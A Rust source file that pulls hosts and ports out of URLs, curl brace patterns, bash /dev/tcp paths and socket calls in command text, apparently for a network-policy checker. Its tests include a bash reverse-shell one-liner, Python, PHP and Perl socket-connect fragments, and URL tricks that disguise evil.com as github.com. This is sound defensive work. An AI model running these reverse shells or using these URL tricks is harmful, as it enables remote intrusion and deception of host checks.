//! Hosts of URLs within any text (RFC 3986, section 3.2), and of the forms that tools take without a
//! scheme.

use crate::host::Host;

/// Schemes whose authority is a path, a bucket or a device, not a host.
const WITHOUT_HOST: &[&str] = &[
    "file",
    "data",
    "s3",
    "s3a",
    "gs",
    "unix",
    "unixgram",
    "fd",
    "vsock",
    "abstract",
    "npipe",
    "zip",
    "jar",
    "about",
    "chrome",
    "resource",
    "app",
    "snap",
    "dir",
    "oci-archive",
    "docker-archive",
    "docker-daemon",
    "containers-storage",
    "secret",
    "vault",
    "keyring",
    "pkcs11",
    "tcp-listen",
    "classpath",
];

/// The ports of schemes.
const PORTS: &[(&str, u16)] = &[
    ("http", 80),
    ("https", 443),
    ("ftp", 21),
    ("ftps", 990),
    ("tftp", 69),
    ("ssh", 22),
    ("sftp", 22),
    ("scp", 22),
    ("git+ssh", 22),
    ("git", 9418),
    ("rsync", 873),
    ("telnet", 23),
    ("ws", 80),
    ("wss", 443),
    ("ldap", 389),
    ("ldaps", 636),
    ("smb", 445),
    ("gopher", 70),
    ("dict", 2628),
    ("mysql", 3306),
    ("postgres", 5432),
    ("postgresql", 5432),
    ("redis", 6379),
    ("mongodb", 27017),
    ("amqp", 5672),
    ("mqtt", 1883),
    ("irc", 6667),
    ("nfs", 2049),
    ("socks4", 1080),
    ("socks5", 1080),
    ("socks5h", 1080),
];

/// The most hosts that one pattern in braces becomes, and the longest such pattern in bytes.
const MAX_CHOICES: usize = 1_024;
const MAX_PATTERN: usize = 8_192;

/// What ends an authority, of those that read it strictly.
const ENDS: &[char] = &['/', '?', '#'];

/// Shows every host of a URL in the text, wherever it stands.
pub(crate) fn within(text: &str, found: &mut dyn FnMut(Host, Option<u16>)) {
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let (before, after) = rest.split_at(at);
        let after = after.get(3..).unwrap_or_default();
        let of_scheme = |character: &char| {
            character.is_ascii_alphanumeric() || matches!(character, '+' | '.' | '-')
        };
        let length = before.chars().rev().take_while(of_scheme).count();
        let scheme = before.get(before.len() - length..).unwrap_or_default().to_ascii_lowercase();
        if !scheme.is_empty() && !WITHOUT_HOST.contains(&scheme.as_str()) {
            authority(after, port_of(&scheme), found);
        }
        rest = after;
    }
    sockets(text, found);
}

/// The port of a scheme.
fn port_of(scheme: &str) -> Option<u16> {
    PORTS.iter().find(|(known, _)| *known == scheme).map(|(_, port)| *port)
}

/// Shows the host at the start of a text: that of a URL behind its scheme, or of a tool that takes one
/// without.
///
/// Where readers differ, as over a backslash, what any of them would reach is shown.
pub(crate) fn authority(text: &str, port: Option<u16>, found: &mut dyn FnMut(Host, Option<u16>)) {
    let ends = |character: char| {
        ENDS.contains(&character) || character.is_whitespace() || "<>\"'`|".contains(character)
    };
    let whole = text.split(ends).next().unwrap_or_default();
    let parts = match whole.split_once('\\') {
        Some((before, _)) => [Some(whole), Some(before)],
        None => [Some(whole), None],
    };
    for part in parts.into_iter().flatten() {
        // What stands before the last `@` is a name and a password.
        let place = part.rsplit_once('@').map_or(part, |(_, place)| place);
        for choice in choices(place) {
            host_and_port(&choice, port, found);
        }
    }
}

/// Shows the host of `host`, `host:port` or `[address]:port`.
pub(crate) fn host_and_port(
    text: &str,
    port: Option<u16>,
    found: &mut dyn FnMut(Host, Option<u16>),
) {
    let text = text.trim_end_matches([',', ';', ')', '.', '"', '\'', '\\']);
    let (host, own) = match text.rsplit_once(']') {
        Some((host, rest)) => (text.get(..=host.len()).unwrap_or(text), rest.strip_prefix(':')),
        None => match text.rsplit_once(':') {
            // More than one colon, and no brackets: an address of IPv6 alone.
            Some((host, _)) if host.contains(':') => (text, None),
            Some((host, port)) => (host, Some(port)),
            None => (text, None),
        },
    };
    let own = own.and_then(|own| own.parse().ok());
    if let Some(host) = Host::read(host) {
        found(host, own.or(port));
    }
}

/// The hosts of `{a,b}.example.org` and `host[1-9].example.org`, which curl makes several of; of a
/// range the first.
fn choices(place: &str) -> Vec<String> {
    let mut all = Vec::new();
    let mut open = vec![place.to_owned()];
    // Each step undoes one pair of braces, and a pattern has no more of them than bytes.
    let mut steps = if place.len() > MAX_PATTERN { 0 } else { 2 * MAX_CHOICES };
    while let Some(one) = open.pop() {
        let parted = one.split_once('{').filter(|_| steps > 0).and_then(|(before, rest)| {
            let (inner, after) = rest.split_once('}')?;
            Some((before, inner, after))
        });
        match parted {
            Some((before, inner, after)) => {
                steps -= 1;
                let room = MAX_CHOICES.saturating_sub(open.len() + all.len()).max(1);
                let choices = inner.rsplit(',').take(room);
                open.extend(choices.map(|choice| format!("{before}{choice}{after}")));
            }
            None => all.push(first_of_range(&one).unwrap_or(one)),
        }
    }
    all
}

fn first_of_range(one: &str) -> Option<String> {
    let (before, rest) = one.split_once('[')?;
    let (inner, after) = rest.split_once(']')?;
    let (first, _) =
        inner.split_once('-').filter(|_| !before.is_empty() || !inner.contains(':'))?;
    Some(format!("{before}{first}{after}"))
}

/// Calls by which programs in a command line connect: what stands before the host.
const CALLS: &[&str] = &[
    "connect((",
    "connect_ex((",
    "create_connection((",
    "fsockopen(",
    "pfsockopen(",
    "TCPSocket.new(",
    "TCPSocket.open(",
    "UDPSocket.new(",
    "inet_aton(",
    "PeerAddr=>",
    "PeerHost=>",
    "net.connect({host:",
    "sendto(",
];

/// Shows the hosts of bash's `/dev/tcp/HOST/PORT`, and those that programs in a command line name when
/// they connect.
fn sockets(text: &str, found: &mut dyn FnMut(Host, Option<u16>)) {
    for kind in ["/dev/tcp/", "/dev/udp/"] {
        let mut rest = text;
        while let Some((_, after)) = rest.split_once(kind) {
            let mut parts = after.splitn(3, |character: char| {
                character == '/' || character.is_whitespace() || "<>\"'`|;&)".contains(character)
            });
            let host = parts.next().and_then(Host::read);
            let port = parts.next().and_then(|port| port.parse().ok());
            if let Some(host) = host {
                found(host, port);
            }
            rest = after;
        }
    }
    if !text.contains('(') && !text.contains("=>") {
        return;
    }
    for call in CALLS {
        let mut rest = text;
        while let Some((_, after)) = rest.split_once(call) {
            rest = after;
            let after = after.trim_start();
            let Some(quote) = after.chars().next().filter(|first| matches!(first, '"' | '\''))
            else {
                continue;
            };
            let mut parts = after.splitn(3, quote).skip(1);
            let host = parts.next().unwrap_or_default();
            let digits: String = parts
                .next()
                .unwrap_or_default()
                .chars()
                .skip_while(|character| matches!(character, ',' | ' '))
                .take_while(char::is_ascii_digit)
                .collect();
            host_and_port(host.trim_start_matches("tcp://"), digits.parse().ok(), found);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hosts(text: &str) -> Vec<String> {
        let mut all = Vec::new();
        within(text, &mut |host, port| {
            all.push(format!("{host} {}", port.map_or("-".to_owned(), |port| port.to_string())));
        });
        all
    }

    #[test]
    fn braces_hide_no_host_and_cost_little() {
        let safe: String = (0..300).map(|number| format!("{number}.github.com,")).collect();
        let all = hosts(&format!("curl http://{{{safe}evil.com}}/x"));
        assert_eq!((all.len(), all.last().map(String::as_str)), (301, Some("evil.com 80")));
        for pattern in ["{}", "{a,b}", "{", "}{", "[1-9]", "{{}}", "a://", "@", "\\"] {
            assert!(hosts(&format!("x://{}", pattern.repeat(200_000))).len() <= 200_000);
        }
        assert!(hosts(&format!("x://{}", "{a,b}".repeat(30))).len() <= MAX_CHOICES);
    }

    #[test]
    fn urls_are_found_wherever_they_stand() {
        for (text, expected) in [
            ("https://GitHub.com/x", vec!["github.com 443"]),
            ("--url=http://a.org:8080?x", vec!["a.org 8080"]),
            ("see http://a.org, or ftp://b.org.", vec!["a.org 80", "b.org 21"]),
            ("https://github.com@evil.com/", vec!["evil.com 443"]),
            ("https://github.com:x@evil.com:8443/", vec!["evil.com 8443"]),
            ("http://evil.com#@github.com/", vec!["evil.com 80"]),
            ("http://evil.com?@github.com/", vec!["evil.com 80"]),
            ("https://github.com\\@evil.com/", vec!["evil.com 443", "github.com 443"]),
            ("http://[2001:db8::1]:81/x", vec!["2001:db8::1 81"]),
            ("http://user@[::1]/", vec!["::1 80"]),
            ("http://3221225991/", vec!["192.0.2.7 80"]),
            ("http://%65vil.com/", vec!["evil.com 80"]),
            ("http://github.com./", vec!["github.com 80"]),
            ("http://{a,b}.org/", vec!["a.org 80", "b.org 80"]),
            ("http://h[1-3].org/", vec!["h1.org 80"]),
            ("redis://:secret@cache:6380/0", vec!["cache 6380"]),
            ("http://a.org/?next=http://b.org/", vec!["a.org 80", "b.org 80"]),
            ("file:///etc/passwd", vec![]),
            ("s3://bucket/key", vec![]),
            ("http://$HOST/x", vec![]),
            ("://evil", vec![]),
            ("http:///x", vec![]),
            ("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", vec!["192.0.2.7 4444"]),
            ("exec 5<>/dev/udp/a.org/53", vec!["a.org 53"]),
            ("s.connect((\"192.0.2.7\",4444));os.dup2", vec!["192.0.2.7 4444"]),
            ("$s=fsockopen('a.org', 81);", vec!["a.org 81"]),
            ("IO::Socket::INET->new(PeerAddr=>\"192.0.2.7:99\")", vec!["192.0.2.7 99"]),
        ] {
            assert_eq!(hosts(text), expected, "{text}");
        }
    }
}
